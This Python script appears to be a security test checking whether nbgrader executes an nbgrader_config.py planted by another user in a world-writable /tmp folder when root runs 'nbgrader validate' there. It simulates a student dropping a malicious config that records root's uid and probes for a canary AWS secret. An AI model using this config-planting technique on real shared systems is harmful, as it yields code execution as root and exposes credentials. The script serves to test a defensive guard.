"""a11: nbgrader (and Jupyter) load `nbgrader_config.py` / `jupyter_*_config.py` from the folder they are run in. Round 40
names "a TA in /tmp" as a place nbgrader runs. In a folder others may write, as /tmp is (a sticky 1777 folder standing
for it), a student (uid 65534) leaves nbgrader_config.py; the TA, root, runs `nbgrader validate` on her own notebook
kept elsewhere, from that folder. Does the venv-wide guard stop a config file owned by another user?"""
import os, subprocess, sys
sys.path.insert(0, (__import__("os").environ.get("ATTACK_ROOT_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", ".."))))
import nbformat
d = "/tmp/attack44-root-a11"; mine = "/tmp/attack44-root-a11-ta"
subprocess.run(["rm", "-rf", d, mine]); os.makedirs(d); os.chmod(d, 0o1777); os.makedirs(mine, mode=0o700)
STUDENT = f"""
import os
os.setgid(65534); os.setuid(65534)
open({d + '/nbgrader_config.py'!r}, 'w').write('''
import os, json
open({d + '/PWNED.json'!r}, 'w').write(json.dumps({{'uid': os.getuid(), 'canary': 'AKIASECRET' in str(os.environ)}}))
''')
"""
subprocess.run([sys.executable, "-c", STUDENT], check=True)
nb = nbformat.v4.new_notebook(); nb.cells = [nbformat.v4.new_code_cell("x = 1")]
nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
nbformat.write(nb, f"{mine}/notes.ipynb")
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
r = subprocess.run(["CLONE/.venv/bin/nbgrader", "validate", f"{mine}/notes.ipynb"], cwd=d, env=env,
                   capture_output=True, text=True, timeout=180)
print("rc", r.returncode, r.stdout[-300:], r.stderr[-300:])
print("owner of nbgrader_config.py:", os.stat(f"{d}/nbgrader_config.py").st_uid)
print("PWNED:", open(f"{d}/PWNED.json").read() if os.path.exists(f"{d}/PWNED.json") else "nothing ran")
